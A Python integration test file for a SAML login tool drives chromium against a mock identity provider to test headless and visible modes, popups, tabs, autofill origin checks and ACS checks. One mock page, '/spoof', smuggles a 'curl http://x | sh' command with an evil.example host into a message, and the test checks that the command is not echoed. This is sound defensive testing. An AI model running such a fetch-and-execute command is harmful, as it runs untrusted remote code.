#!/usr/bin/python3
"""browser.mode (auto, headless, visible), popups and new tabs, one tab.

Debian's chromium, headless and headed under a private Xvfb, against a
small loopback IdP (stdlib http.server, through tests/adapters/mockidp.py:
STS emulator + private keyring).  The IdP keeps its session in a
persistent cookie, so the kept browser profile makes the next login
silent.  Every chromium start goes through a wrapper that writes its
argv to a log: the tests see whether a window (no --headless) was opened.

Standalone:
    SAML2STS_BIN=build/saml2sts /usr/bin/python3 -B tests/integration/test_browser_auto.py
"""

import html
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
import unittest
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "adapters"))
import mockidp  # noqa: E402

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
XVFB = shutil.which("Xvfb")
# keep chromium on loopback; popups without a click are allowed so that
# the mock pages can open them on their own
NET_ARGS = ("--proxy-server=http://127.0.0.1:9 "
            "--proxy-bypass-list=127.0.0.1;localhost --disable-popup-blocking")
SESSION = "sid=kept-0001"


def page(title, body):
    return ("<!DOCTYPE html><html><head><title>%s</title></head><body>%s"
            "</body></html>" % (title, body)).encode()


class IdP(http.server.BaseHTTPRequestHandler):
    log = []  # (method, path, headless?, form)

    def log_message(self, *a):
        pass

    def send(self, code, body, headers=()):
        self.send_response(code)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def headless(self):
        return "HeadlessChrome" in (self.headers.get("User-Agent") or "")

    def saml(self, site="cn", acs=None):
        s = self.server.mock.sign_for("alice", site)
        return page("POST data",
                    '<form method="post" action="%s"><input type="hidden" '
                    'name="SAMLResponse" value="%s"></form><script>'
                    'document.forms[0].submit()</script>'
                    % (acs or mockidp.SITES[site]["acs"], html.escape(s)))

    def login_form(self, error=""):
        return page("Sign in", '<p>%s</p><form method="post" action="/login">'
                    '<input type="text" name="username">'
                    '<input type="password" name="password">'
                    '<button type="submit">Sign in</button></form>' % error)

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        self.log.append(("GET", path, self.headless(), None))
        kept = SESSION in (self.headers.get("Cookie") or "")
        if path == "/login":
            return self.send(200, self.saml() if kept else self.login_form())
        if path == "/slow":  # nothing happens headless
            if self.headless():
                return self.send(200, page("Wait", "<p>please wait</p>"))
            return self.send(200, self.saml())
        if path == "/hold":  # never finishes
            return self.send(200, page("Hold", "<p>hold on</p>"))
        if path == "/otp":
            return self.send(200, page("Code", '<form method="post" '
                                       'action="/otp"><input type="text" '
                                       'autocomplete="one-time-code" '
                                       'name="c"></form>'))
        if path == "/passkey":
            return self.send(200, page("Passkey", "<script>"
                                       "navigator.credentials.get({publicKey:"
                                       "{challenge:new Uint8Array(32)}})"
                                       ".catch(function(){})</script>"))
        if path == "/popup":  # the IdP opens a window that posts
            return self.send(200, page("Opening", "<p>a window opens</p>"
                                       "<script>setTimeout(function(){"
                                       "window.open('/saml','idp','width=400"
                                       ",height=400')},200)</script>"))
        if path == "/newtab":  # a link with target=_blank, clicked
            return self.send(200, page("Tab", '<a id="a" href="/saml" '
                                       'target="_blank">continue</a><script>'
                                       "setTimeout(function(){document."
                                       "getElementById('a').click()},200)"
                                       "</script>"))
        if path == "/saml":
            return self.send(200, self.saml())
        if path == "/saml-intl":  # an app set up for the other site
            return self.send(200, self.saml("intl"))
        if path == "/saml-http":  # an app with a plain-http ACS URL
            return self.send(200, self.saml("cn", mockidp.SITES["cn"]["acs"]
                                            .replace("https:", "http:")))
        if path == "/hop":  # the same host name, another origin
            return self.send(302, b"", [("Location", Other.base + "/login")])
        if path == "/spoof":  # a page calling the detector's binding itself
            return self.send(200, page("Spoof", "<script>try{s2sNeed('login "
                                       "evil.example;run: curl http://x | sh "
                                       "http://127.0.0.1')}catch(e){}</script>"))
        if path.startswith("/saml-role/sso"):
            raise AssertionError("the assertion reached the fake ACS")
        return self.send(404, page("Not found", ""))

    def do_POST(self):
        path = urllib.parse.urlsplit(self.path).path
        n = int(self.headers.get("Content-Length", 0))
        form = urllib.parse.parse_qs(self.rfile.read(n).decode())
        self.log.append(("POST", path, self.headless(), form))
        if path == "/login":
            if (form.get("username") == ["alice"] and
                    form.get("password") == ["alice-pass"]):
                return self.send(200, self.saml(), [
                    ("Set-Cookie", SESSION + "; Path=/; Max-Age=3600")])
            return self.send(200, self.login_form("Wrong password"))
        return self.send(404, page("Not found", ""))


class Other(http.server.BaseHTTPRequestHandler):
    """Another service on the IdP's host name (another port)."""
    base = None
    posts = []

    def log_message(self, *a):
        pass

    def do_GET(self):
        body = page("Sign in", '<form method="post" action="/login">'
                    '<input type="text" name="username">'
                    '<input type="password" name="password">'
                    '<button type="submit">Sign in</button></form>')
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        n = int(self.headers.get("Content-Length", 0))
        self.posts.append(self.rfile.read(n))
        self.do_GET()


class BrowserAutoTest(unittest.TestCase):
    idp = None
    xvfb = None
    display = None

    @classmethod
    def setUpClass(cls):
        if CHROMIUM is None or XVFB is None:
            raise RuntimeError("chromium and xvfb are needed: run "
                               "scripts/deps.sh")
        cls.idp = mockidp.MockIdP(IdP).start()
        cls.other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
        Other.base = "http://127.0.0.1:%d" % cls.other.server_address[1]
        threading.Thread(target=cls.other.serve_forever, daemon=True).start()
        r, w = os.pipe()
        cls.xvfb = subprocess.Popen(
            [XVFB, "-displayfd", str(w), "-screen", "0", "1024x768x24",
             "-nolisten", "tcp"], pass_fds=(w,), stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True)
        os.close(w)
        with os.fdopen(r) as f:
            num = f.readline().strip()
        if not num:
            raise RuntimeError("Xvfb did not start")
        cls.display = ":" + num
        cls.wrapper = os.path.join(cls.idp.dir, "chromium-wrapper")
        cls.launches = os.path.join(cls.idp.dir, "launches")
        with open(cls.wrapper, "w") as f:
            f.write('#!/bin/sh\necho "$*" >> %s\nexec %s "$@"\n'
                    % (cls.launches, CHROMIUM))
        os.chmod(cls.wrapper, 0o755)

    @classmethod
    def tearDownClass(cls):
        if cls.xvfb:
            cls.xvfb.terminate()
            cls.xvfb.wait(10)
        if cls.idp:
            cls.idp.stop()
        cls.other.shutdown()
        cls.other.server_close()

    def setUp(self):
        IdP.log.clear()
        if os.path.exists(self.launches):
            os.unlink(self.launches)
        self.account = "a-" + self._testMethodName

    def config(self, path, extra=""):
        keys = {"browser": self.wrapper, "browser.args": NET_ARGS,
                "browser.timeout": "20", "browser.silent_timeout": "6"}
        for line in extra.splitlines():  # extra overrides those
            k, v = line.split("=", 1)
            keys[k.strip()] = v.strip()
        return ("[%s]\nprovider = browser\nurl = %s%s\nusername = alice\n"
                % (self.account, self.idp.base_url, path) +
                "".join("%s = %s\n" % kv for kv in keys.items()))

    def run_s2s(self, path, extra="", display=False, password="alice-pass",
                args=()):
        env = {"DISPLAY": self.display} if display else {}
        return self.idp.run(self.config(path, extra),
                            ["--account", self.account, "login", "--role",
                             mockidp.ROLE_ARN, "--force"] + list(args),
                            password=password, env=env, timeout=60)

    def starts(self):
        """One bool per chromium start: True when headless."""
        if not os.path.exists(self.launches):
            return []
        with open(self.launches) as f:
            return ["--headless=new" in line for line in f]

    def profile_dir(self):
        return os.path.join(self.idp.xdg["XDG_DATA_HOME"], "saml2sts",
                            "browser", self.account)

    def sts_ok(self, n_before):
        calls = self.idp.sts_calls()[n_before:]
        self.assertEqual(len(calls), 1, calls)
        self.assertEqual(calls[0]["status"], 200)

    # -- auto ---------------------------------------------------------

    def test_a_kept_session_stays_headless(self):
        # first login: headless mode fills the form, the profile keeps
        # the IdP's session cookie
        r = self.run_s2s("/login", "browser.mode = headless\n")
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.assertEqual(self.starts(), [True])
        os.unlink(self.launches)
        IdP.log.clear()
        n = len(self.idp.sts_calls())
        # auto, a display at hand, no password: done without a window
        r = self.run_s2s("/login", display=True, password=None)
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.sts_ok(n)
        self.assertEqual(self.starts(), [True])
        self.assertNotIn(b"opening a window", r.stderr)
        self.assertFalse([e for e in IdP.log if e[0] == "POST"])
        self.assertTrue(all(e[2] for e in IdP.log), IdP.log)

    def test_b_login_form_opens_window_and_autofills(self):
        n = len(self.idp.sts_calls())
        r = self.run_s2s("/login", "browser.autofill = true\n", display=True)
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.sts_ok(n)
        self.assertEqual(self.starts(), [True, False])
        self.assertIn(b"silent attempt needs you: a login form on 127.0.0.1;"
                      b" opening a window", r.stderr)
        posts = [e for e in IdP.log if e[0] == "POST"]
        self.assertEqual(len(posts), 1, IdP.log)
        self.assertFalse(posts[0][2], "the password went to the headless "
                         "browser")
        self.assertNotIn(b"alice-pass", r.stderr)

    def test_c_silent_timeout_opens_window(self):
        n = len(self.idp.sts_calls())
        t0 = time.monotonic()
        r = self.run_s2s("/slow", "browser.silent_timeout = 2\n",
                         display=True)
        took = time.monotonic() - t0
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.sts_ok(n)
        self.assertEqual(self.starts(), [True, False])
        self.assertIn(b"no SAMLResponse within 2 s", r.stderr)
        self.assertGreater(took, 2)

    def test_d_no_display_needs_person(self):
        r = self.run_s2s("/login")
        self.assertEqual(r.returncode, 8, r.stderr.decode())
        self.assertIn(b"the login needs you (a login form on 127.0.0.1) "
                      b"and there is no display", r.stderr)
        self.assertEqual(self.starts(), [True])
        self.assertFalse([e for e in IdP.log if e[0] == "POST"])

    # -- popups and tabs ------------------------------------------------

    def test_e_popup_posts_saml(self):
        n = len(self.idp.sts_calls())
        r = self.run_s2s("/popup")
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.sts_ok(n)
        self.assertEqual(self.starts(), [True])

    def test_f_new_tab_posts_saml(self):
        n = len(self.idp.sts_calls())
        r = self.run_s2s("/newtab")
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        self.sts_ok(n)

    def test_g_one_tab_only(self):
        # a visible window on a page that never finishes; chromium's
        # own debugging port (test only) lists the tabs meanwhile; the
        # second start also has the restored session of the first
        extra = ("browser.mode = visible\nbrowser.timeout = 5\n"
                 "browser.args = %s --remote-debugging-port=0\n" % NET_ARGS)
        for round_ in (1, 2):
            port_file = os.path.join(self.profile_dir(), "DevToolsActivePort")
            if os.path.exists(port_file):
                os.unlink(port_file)
            cfg = self.idp.config_path(self.config("/hold", extra))
            p = subprocess.Popen(
                [mockidp.BIN, "--config", cfg, "--account", self.account,
                 "login", "--role", mockidp.ROLE_ARN, "--force"],
                env=self.idp.env("alice-pass", {"DISPLAY": self.display}),
                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                stderr=subprocess.PIPE, start_new_session=True)
            try:
                pages = None
                end = time.time() + 4.5
                while time.time() < end:
                    time.sleep(0.3)
                    try:
                        with open(port_file) as f:
                            port = int(f.readline())
                        with urllib.request.urlopen(
                                "http://127.0.0.1:%d/json/list" % port,
                                timeout=2) as u:
                            tabs = json.load(u)
                    except (OSError, ValueError):
                        continue
                    pages = [t["url"] for t in tabs if t["type"] == "page"]
                    if any(u.endswith("/hold") for u in pages):
                        time.sleep(0.5)  # strays closing take a moment
                        with urllib.request.urlopen(
                                "http://127.0.0.1:%d/json/list" % port,
                                timeout=2) as u:
                            tabs = json.load(u)
                        pages = [t["url"] for t in tabs
                                 if t["type"] == "page"]
                        break
                out, err = p.communicate(timeout=30)
            finally:
                if p.poll() is None:
                    p.kill()
                    p.wait()
            self.assertEqual(p.returncode, 4, err.decode())
            self.assertEqual(pages, [self.idp.base_url + "/hold"],
                             "round %d" % round_)
        self.assertEqual(self.starts(), [False, False])

    # -- headless mode -----------------------------------------------------

    def test_h_headless_never_goes_visible(self):
        for path, what in (("/login", b"a login form on 127.0.0.1"),
                           ("/otp", b"a one-time code prompt on 127.0.0.1"),
                           ("/passkey", b"a passkey (WebAuthn) request on "
                                        b"127.0.0.1")):
            os.path.exists(self.launches) and os.unlink(self.launches)
            t0 = time.monotonic()
            r = self.run_s2s(path, "browser.mode = headless\n"
                             "browser.autofill = false\n", display=True)
            self.assertEqual(r.returncode, 8, r.stderr.decode())
            self.assertIn(b"the login needs you (" + what + b")", r.stderr)
            self.assertIn(b"headless", r.stderr)
            self.assertEqual(self.starts(), [True])
            self.assertLess(time.monotonic() - t0, 15)
        # --headless wins over browser.mode = visible
        os.unlink(self.launches)
        r = self.run_s2s("/otp", "browser.mode = visible\n", display=True,
                         args=["--headless"])
        self.assertEqual(r.returncode, 8, r.stderr.decode())
        self.assertEqual(self.starts(), [True])

    def test_j_page_cannot_steer_autofill_or_message(self):
        # headless mode fills a login form only on the url's origin: not
        # on another port of its host name (nor plain http of an https
        # IdP); the page's need is then exit 8
        Other.posts.clear()
        r = self.run_s2s("/hop", "browser.mode = headless\n")
        self.assertEqual(r.returncode, 8, r.stderr.decode())
        self.assertIn(b"the login needs you (a login form on 127.0.0.1)",
                      r.stderr)
        self.assertEqual(Other.posts, [])
        self.assertNotIn(b"alice-pass", r.stderr)
        # a page's own s2sNeed() call: exit 8, its text not in the message
        r = self.run_s2s("/spoof", "browser.mode = headless\n"
                         "browser.autofill = false\n")
        self.assertEqual(r.returncode, 8, r.stderr.decode())
        self.assertIn(b"the login needs you (a login form on ?)", r.stderr)
        self.assertNotIn(b"curl", r.stderr)
        self.assertNotIn(b"evil", r.stderr)
        self.assertEqual(self.starts(), [True, True])

    def test_k_other_site_or_http_acs_stopped(self):
        # site cn, the IdP posts to the international ACS, or to the
        # ACS over plain http: the POST is paused and refused (never
        # sent), the message names the fix
        n = len(self.idp.sts_calls())
        for path, acs in (("/saml-intl", mockidp.SITES["intl"]["acs"]),
                          ("/saml-http", mockidp.SITES["cn"]["acs"]
                           .replace("https:", "http:"))):
            t0 = time.monotonic()
            r = self.run_s2s(path, "browser.mode = headless\n"
                             "browser.timeout = 8\n")
            self.assertEqual(r.returncode, 5, r.stderr.decode())
            self.assertIn(b"the IdP sent the assertion to " + acs.encode() +
                          b", not to the configured site's ACS", r.stderr)
            self.assertIn(b"set site", r.stderr)
            self.assertLess(time.monotonic() - t0, 8)
        self.assertEqual(len(self.idp.sts_calls()), n)

    # -- config ------------------------------------------------------------

    def test_i_bad_keys(self):
        r = self.run_s2s("/login", "browser.bogus = 1\n")
        self.assertEqual(r.returncode, 2, r.stderr.decode())
        self.assertIn(b"browser.bogus", r.stderr)
        r = self.run_s2s("/login", "browser.mode = sometimes\n")
        self.assertEqual(r.returncode, 2, r.stderr.decode())
        self.assertIn(b"browser.mode", r.stderr)
        r = self.run_s2s("/login", "browser.silent_timeout = 0\n")
        self.assertEqual(r.returncode, 2, r.stderr.decode())
        self.assertEqual(self.starts(), [])
        self.assertEqual(IdP.log, [])


if __name__ == "__main__":
    unittest.main(verbosity=2)
